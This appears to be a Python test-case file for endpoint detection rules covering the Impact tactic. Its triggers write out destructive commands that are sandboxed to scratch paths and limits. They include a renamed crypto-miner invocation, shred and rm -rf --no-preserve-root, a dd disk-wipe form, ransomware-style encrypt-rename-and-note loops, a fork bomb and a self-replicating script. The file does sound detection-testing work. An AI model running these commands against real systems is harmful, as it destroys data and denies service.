# SPDX-License-Identifier: Apache-2.0
"""Impact (TA0040): crypto-miners, secure and destructive deletion, disk wipes,
encryption for ransom, fork bombs. Rules: rules/80_impact.yaml (threshold forms
at the end of rules/80_impact.yaml)."""
from detlib import Benign, Case

BOTH = ("host", "container")

# A directory of victim files for the ransomware cases.
VICTIMS = r'''
    mkdir -p "$DET_DIR/share"
    for i in 1 2 3 4 5 6; do echo "quarterly report $i" > "$DET_DIR/share/report$i.docx"; done
'''

CASES = [
    Case(id="impact.miner.renamed_with_pool_args", tactic="impact", technique="T1496",
         rules=["Cryptominer Pool Arguments"],
         trigger=r'''
            cp /bin/true "$DET_DIR/kswapd0"
            "$DET_DIR/kswapd0" -o "stratum+tcp://$DET_NS_ADDR:3333" -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x -k --donate-level 1
         ''', where=BOTH),
    Case(id="impact.miner.xmrig_name", tactic="impact", technique="T1496",
         rules=["Known Cryptominer Executed"],
         trigger=r'''
            mkdir -p "$DET_DIR/opt" && cp /bin/true "$DET_DIR/opt/xmrig"
            "$DET_DIR/opt/xmrig" --version
         ''', where=BOTH),
    Case(id="impact.miner.pool_port_connection", tactic="impact", technique="T1496",
         rules=["Connection to a Mining Pool Port"],
         trigger=r'''
            det_ns_listen 14444
            printf '{"id":1,"method":"login","params":{"login":"wallet","pass":"x"}}\n' |
                timeout 3 ncat --send-only "$DET_NS_ADDR" 14444 || true
         ''', where=BOTH, needs=["ncat"]),
    Case(id="impact.destruction.shred", tactic="impact", technique="T1485",
         rules=["Secure Deletion Tool Run"],
         trigger=r'''
            echo "customer database" > "$DET_DIR/db.sqlite"
            shred -fzu -n 1 "$DET_DIR/db.sqlite"
         ''', where=BOTH),
    Case(id="impact.destruction.rm_no_preserve_root", tactic="impact", technique="T1485",
         rules=["Destructive Recursive Deletion"],
         trigger=r'''
            mkdir -p "$DET_DIR/victim/a" && touch "$DET_DIR/victim/a/f"
            rm -rf --no-preserve-root "$DET_DIR/victim"
         ''', where=BOTH),
    # find / ... -delete, restricted to a name nothing has so it deletes nothing.
    Case(id="impact.destruction.find_root_delete", tactic="impact", technique="T1485",
         rules=["Destructive Recursive Deletion"],
         trigger=r'''
            timeout 5 find / -xdev -maxdepth 1 -name "vigil-no-such-file-$$" -delete || true
         ''', where=BOTH),
    # dd onto a whole-disk name: a file under /dev that nothing else uses (dd creates it).
    Case(id="impact.destruction.dd_disk_wipe", tactic="impact", technique="T1561.001",
         rules=["Block Device Overwritten"],
         trigger=r'''
            dd if=/dev/zero of=/dev/sdvigil$$ bs=512 count=1 status=none
         ''', cleanup='rm -f /dev/sdvigil*', where=BOTH),
    Case(id="impact.ransom.openssl_loop_note_rename", tactic="impact", technique="T1486",
         rules=["Bulk File Encryption Command", "Ransom Note Written",
                "File Renamed with a Ransomware Extension"],
         trigger=VICTIMS + r'''
            bash -c 'for f in '"$DET_DIR"'/share/*.docx; do openssl enc -aes-256-cbc -pbkdf2 -salt -in "$f" -out "$f.tmp" -pass pass:K3y && rm -f "$f" && mv "$f.tmp" "$f.encrypted"; done'
            echo "Your files are encrypted. Send 1 BTC." > "$DET_DIR/share/README_DECRYPT.txt"
         ''', where=BOTH),
    Case(id="impact.ransom.gpg_find_exec", tactic="impact", technique="T1486",
         rules=["Bulk File Encryption Command"],
         trigger=VICTIMS + r'''
            export GNUPGHOME="$DET_DIR/gnupg"; mkdir -m 700 -p "$GNUPGHOME"
            find "$DET_DIR/share" -name '*.docx' -exec gpg --batch --yes --passphrase k3y --pinentry-mode loopback -c {} \;
         ''', where=BOTH, needs=["gpg"]),
    Case(id="impact.ransom.python_note_and_locked", tactic="impact", technique="T1486",
         rules=["Ransom Note Written", "File Renamed with a Ransomware Extension"],
         trigger=VICTIMS + r'''
            /usr/bin/python3 - "$DET_DIR/share" <<'EOF'
import os, sys
d = sys.argv[1]
for n in os.listdir(d):
    p = os.path.join(d, n)
    data = open(p, "rb").read()
    open(p, "wb").write(bytes(b ^ 0x5A for b in data))
    os.rename(p, p + ".locked")
open(os.path.join(d, "HOW_TO_RECOVER_FILES.txt"), "w").write("pay\n")
EOF
         ''', where=BOTH),
    # A real fork bomb, bounded: an unprivileged user limited to 40 processes, killed
    # after 2 s (the harness kills the rest of the case's cgroup at its end).
    Case(id="impact.dos.fork_bomb", tactic="impact", technique="T1499.001",
         rules=["Fork Bomb Command Line"],
         trigger=r'''
            su -s /bin/bash "$(det_user)" -c "ulimit -u 40; timeout -s KILL 2 bash -c ':(){ :|:& };:'" >/dev/null 2>&1 || true
         ''', where=("host",)),
]

BENIGN = [
    Benign(id="benign.impact.cleanup_build_and_logs", script=r'''
            mkdir -p "$DET_DIR/build/obj" "$DET_DIR/log"
            for i in $(seq 1 50); do touch "$DET_DIR/build/obj/f$i.o"; done
            touch -d '40 days ago' "$DET_DIR/log/old.log.gz"
            find "$DET_DIR/log" -name '*.gz' -mtime +30 -delete
            rm -rf "$DET_DIR/build"
            rm -rf /tmp/vigil-nonexistent-$$
         ''', where=BOTH),
    Benign(id="benign.impact.encrypt_one_backup", script=r'''
            tar czf "$DET_DIR/backup.tgz" -C "$DET_DIR" . 2>/dev/null || true
            openssl enc -aes-256-cbc -pbkdf2 -in "$DET_DIR/backup.tgz" -out "$DET_DIR/backup.tgz.aes" -pass pass:s3cret
            openssl enc -d -aes-256-cbc -pbkdf2 -in "$DET_DIR/backup.tgz.aes" -out "$DET_DIR/restored.tgz" -pass pass:s3cret
            openssl sha256 "$DET_DIR/restored.tgz" >/dev/null
            mv "$DET_DIR/backup.tgz" "$DET_DIR/backup.tgz.bak"
            echo "see docs" > "$DET_DIR/README.txt"
         ''', where=BOTH),
    Benign(id="benign.impact.local_service_ports", script=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            curl -s -m 1 -o /dev/null "http://127.0.0.1:$DET_PORT/" || true
            shred --version >/dev/null
         ''', where=BOTH, needs=["curl"]),
]

# Threshold rules (the end of rules/80_impact.yaml).
CASES += [
    Case(id="impact.seq.mass_deletion", tactic="impact", technique="T1485",
         rules=["Mass File Deletion"],
         setup=r'''
            mkdir -p /srv/vigil-det-wipe
            for i in $(seq 1 400); do echo "record $i" > /srv/vigil-det-wipe/r$i.dat; done
         ''',
         trigger=r'''
            rm -rf /srv/vigil-det-wipe
         ''', cleanup='rm -rf /srv/vigil-det-wipe', where=BOTH),
    Case(id="impact.seq.mass_rename", tactic="impact", technique="T1486",
         rules=["Mass Rename to Ransomware Extension"],
         trigger=r'''
            mkdir -p "$DET_DIR/d"
            for i in $(seq 1 15); do echo "x$i" > "$DET_DIR/d/f$i.txt"; done
            for f in "$DET_DIR"/d/*.txt; do mv "$f" "$f.locked"; done
         ''', where=BOTH),
    Case(id="impact.seq.mass_encryption", tactic="impact", technique="T1486",
         rules=["Mass File Encryption by Command-Line Tools"],
         trigger=r'''
            mkdir -p "$DET_DIR/d"
            for i in $(seq 1 12); do echo "x$i" > "$DET_DIR/d/f$i.txt"; done
            for f in "$DET_DIR"/d/*.txt; do openssl enc -aes-256-cbc -pbkdf2 -k pw -in "$f" -out "$f.bin"; done
         ''', where=BOTH),
    Case(id="impact.seq.self_replicating_storm", tactic="impact", technique="T1499.001",
         rules=["Self-Replicating Process Storm"],
         trigger=r'''
            cat > "$DET_DIR/worm.sh" <<'EOF'
#!/bin/bash
n=${1:-0}
[ "$n" -ge 250 ] && exit 0
exec /bin/bash "$0" $((n + 1))
EOF
            timeout 20 /bin/bash -c '/bin/bash "$1" 0 & /bin/bash "$1" 0' _ "$DET_DIR/worm.sh" || true
         ''', where=("host",)),
]
